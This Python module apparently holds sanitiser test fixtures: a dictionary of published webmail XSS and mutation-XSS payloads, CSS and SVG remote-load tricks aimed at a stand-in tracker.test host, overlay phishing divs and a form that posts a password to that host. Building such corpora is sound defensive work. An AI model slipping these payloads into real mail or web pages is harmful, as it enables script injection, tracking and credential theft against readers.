"""Ways by which mail got past sanitisers of webmail, as published, in our own words.

Each tries to call `alert`, to ask a server at `tracker.test`, or to lay itself over what is around it.
"""

HOLES: dict[str, str] = {
    "script": "<p>Hello<script>alert(1)</script><script src='http://tracker.test/x.js'></script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": "<img src=x onerror=alert(1)><body onload=alert(1)><div onclick='alert(1)'>x</div>",
    "handler after a slash": "<img/src=x/onerror=alert(1)><a/onmouseover=alert(1)//href=x>x",
    "handler with control characters": "<img src=x on\x0berror=alert(1) \x00onerror=alert(1) on\nerror=alert(1)>",
    # CVE-2023-5631: an SVG <use> whose data: URL holds another SVG with a handler
    "svg use": (
        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1h'
        'Z2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x" /></svg>'
        '<svg id=x><use xlink:href="http://tracker.test/s.svg#x"></svg>'
    ),
    # CVE-2024-37383: <animate attributeName="href "> with a trailing space sets a javascript: link
    "svg animate": (
        '<svg><a><animate attributeName="href " values="javascript:alert(1)" /><text y=20>click</text></a></svg>'
        "<svg><set attributeName=onmouseover to=alert(1)></svg>"
    ),
    "SMIL by events": '<svg><animate onbegin=alert(1) attributeName=x dur=1s><animateTransform onend="alert(1)"></svg>',
    "svg with style and image": (
        "<svg><style>@import 'http://tracker.test/a.css';</style><image href=http://tracker.test/a.png /></svg>"
    ),
    "svg foreignObject": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    # CVE-2018-19206: style and link hidden in a document within
    "style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "FuncIRI": (
        '<svg><rect fill="url(http://tracker.test/f#x)" '
        "mask='url(\"http://tracker.test/m\")' filter=url(//tracker.test/g)>"
        "</svg><p fill=url(http://tracker.test/p) "
        "style='clip-path:url(http://tracker.test/c);mask:url(//tracker.test/m);"
        "cursor:url(http://tracker.test/u),auto'>x</p>"
    ),
    "css url": (
        "<p "
        "style=\"background:url(http://tracker.test/b);background-image:URL('//tracker.test/c');list-style:url(x)\">x"
        "<p style='background:image-set(\"http://tracker.test/i\" 1x);content:url(http://tracker.test/j)'>"
        "<p style='background:-webkit-image-set(url(http://tracker.test/k) 1x), src(\"http://tracker.test/l\")'>"
    ),
    "css escapes": (
        r"<p style='background:\75\72\6c(http://tracker.test/e);background:u\72l(http://tracker.test/f)'>x"
        r"<p style='b\61 ckground:ur\l(http://tracker.test/g);posit\69on:fix\65 d;width:ex\pression(alert(1))'>x"
        r"<p style='background:url\28http://tracker.test/h\29'>"
    ),
    "css comments": "<p style='background:u/**/rl(http://tracker.test/x);width:exp/**/ression(alert(1))'>x",
    "css var": (
        "<div style='--x:url(http://tracker.test/v)'><p style='background:var(--x);background:v\\61r(--x)'>x</p></div>"
    ),
    "css attr and env": "<p title='http://tracker.test' style='background:attr(title url);width:env(x)'>x",
    "css expression": "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(http://tracker.test/x)'>",
    "css position": (
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>sign in here</div>"
        "<div style='position:absolute!important'></div><div style='POSITION: -webkit-sticky'></div>"
    ),
    "style sheet": (
        "<style>@import 'http://tracker.test/a.css'; @import url(http://tracker.test/b.css);"
        "@font-face{font-family:x;src:url(http://tracker.test/f.woff)} "
        "p{font-family:x;background:url(//tracker.test/c)}"
        "@namespace url(http://tracker.test/n); @charset 'utf-7';"
        "#app{display:none} body > *{display:none} *{position:fixed} a:before{content:url(http://tracker.test/d)}"
        "input[value^=a]{background:url(http://tracker.test/e)} @media print{p{background:url(http://tracker.test/g)}}"
        "@supports(display:grid){p{background:url(http://tracker.test/h)}} p{&:hover{background:url(//tracker.test/i)}}"
        "</style><p>x"
    ),
    "style sheet that ends early": (
        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>"
        r"<style>p{font-family:'\3c/style\3e\3cimg src=x onerror=alert(1)\3e'} .\3c\2fstyle{color:red}</style>"
        "<style>@media \\3c/style\\3e{p{color:red}}</style><style><!-- p{color:red} --></style>"
    ),
    "style sheet that never ends": "<p>x<style>p{color:red} <img src=x onerror=alert(1)>",
    "link, base, meta, frames": (
        "<link rel=stylesheet href=http://tracker.test/a.css><link rel=dns-prefetch href=//tracker.test>"
        "<base href='http://tracker.test/' target=_self><meta http-equiv=refresh content='0;url=http://tracker.test/r'>"
        "<meta http-equiv=set-cookie content='a=b'><iframe src=http://tracker.test/i></iframe><frameset><frame src=x>"
        "<object data=http://tracker.test/o><embed src=http://tracker.test/e><applet code=x></applet></object>"
    ),
    "body": (
        "<body background='http://tracker.test/body.png' style='background:url(http://tracker.test/b)' onload=alert(1) "
        "bgcolor='red;background:url(http://tracker.test/c)' link='javascript:alert(1)'>x"
    ),
    "background of cells": "<table background=http://tracker.test/t><td background='javascript:alert(1)'>x</table>",
    "srcset and its kin": (
        "<img srcset='http://tracker.test/s 2x' src=data:image/svg+xml,<"
        "svg/onload=alert(1)> lowsrc=http://tracker.test/l"
        " dynsrc=x longdesc=http://tracker.test/d><picture><source srcset=http://tracker.test/p></picture>"
        "<video poster=http://tracker.test/v src=http://tracker.test/w><audio "
        "src=http://tracker.test/a autoplay></video>"
        "<input type=image src=http://tracker.test/i><a ping=http://tracker.test/ping href=http://shop.test/>x</a>"
    ),
    "forms": (
        "<form action=http://tracker.test/f method=post><input name=password><button formaction=javascript:alert(1)>"
        "Sign in</button><input type=submit formaction=http://tracker.test/g><"
        "/form><isindex action=javascript:alert(1)>"
    ),
    "javascript links": (
        "<a href='javascript:alert(1)'>a</a><a href='JaVaScRiPt:alert(1)'>b</a><a "
        "href=' &#1; javascript:alert(1)'>c</a>"
        "<a href='java\tscript:alert(1)'>d</a><a href='java&#x0A;script&colon;alert(1)'>e</a>"
        "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>f</a><a href='\x01javascript:alert(1)'>g"
        "</a><a href='vbscript:msgbox(1)'>h</a><a href='data:text/html,<script>alert(1)</script>'>i</a>"
        "<a href='blob:http://x/y'>j</a><a href='feed:javascript:alert(1)'>k</a><a "
        "href='view-source:javascript:1'>l</a>"
        "<area href='javascript:alert(1)'><a xlink:href='javascript:alert(1)'>m</a>"
        "<a href='//javascript:alert(1)'>n</a>"
    ),
    "data images": (
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,x'>"
        "<img src='data:image/png;base64,AAAA'>"
        "<img src='javascript:alert(1)'><img src='jar:http://tracker.test!/x'><img src='file:///etc/passwd'>"
    ),
    "unencoded ampersand": (
        "<img src='http://tracker.test/?a=1&onerror=alert(1)&quot; onerror=&quot;alert(1)'>"
        '<a href="http://shop.test/?a&quot onmouseover=&quot;alert(1)//&gt">x</a><a title="&quot;&gt;<img src=x '
        'onerror=alert(1)>">y</a>'
    ),
    "mXSS by math and style": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mXSS by form and math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
    ),
    "mXSS by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mXSS by template": "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "mXSS by select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "mXSS by textarea and title": (
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'
        '<title><p title="</title><img src=x onerror=alert(1)>">'
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><a title="<'
        '/noembed><img src=x onerror=alert(1)>">'
    ),
    "mXSS by svg and title": '<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></svg>',
    "mXSS by annotation-xml": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'
    ),
    "mXSS by CDATA": "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "mXSS by comments": (
        "<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>--><"
        "!--x--!><img src=x onerror=alert(1)>-->"
        "<!-- <!-- --><img src=x onerror=alert(1)> -->"
    ),
    "conditional comments": (
        "<!--[if IE]><script>alert(1)</script><![endif]--><![if !IE]><script>alert(1)</script><![endif]>"
    ),
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php alert(1) ?><%= alert(1) %>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "quotes in attributes": "<img title='\"><img src=x onerror=alert(1)>' alt=`><script>alert(1)</script>`>",
    "names of ours": (
        "<p id=app class='waypost-message waypost-elsewhere m0-x' name=config><a name=location><img name=cookie>"
    ),
    "namespaced": (
        "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script><x:script>alert(1)</x:script>"
    ),
    "xml in office mail": (
        "<xml><o:p>&nbsp;</o:p></xml><v:shape style='behavior:url(#default#VML)' src=http://tracker.test/v>"
    ),
    "marquee and its events": "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "custom elements": (
        "<x-y onclick=alert(1) is=z style='background:url(http://tracker.test/x)'><slot name=a></slot></x-y>"
    ),
    "broken off": "<a href='http://shop.test/' title='<img src=x onerror=alert(1)",
    "contents of a calmed document": (
        "<div>" * 3_100 + "<waypost-font onclick=alert(1)>x</waypost-font><img src=x onerror=alert(1)>"
        "<svg><style><img src=x onerror=alert(1)></style></svg><a href=javascript:alert(1)>x"
    ),
}
